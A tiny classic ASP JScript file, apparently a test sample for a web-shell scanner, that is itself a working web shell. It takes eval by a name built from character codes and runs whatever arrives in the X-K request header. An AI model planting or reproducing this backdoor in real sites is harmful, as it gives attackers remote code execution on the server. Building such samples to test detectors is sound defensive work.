<%@ Language="JScript" %>
<%
// webhunt test sample (sweep 73): eval fetched from the global object by a name made of char
// codes, called on a request header
var k = Request.ServerVariables("HTTP_X_K") + "";
var f = this[String.fromCharCode(101, 118, 97, 108)];
f(k);
%>
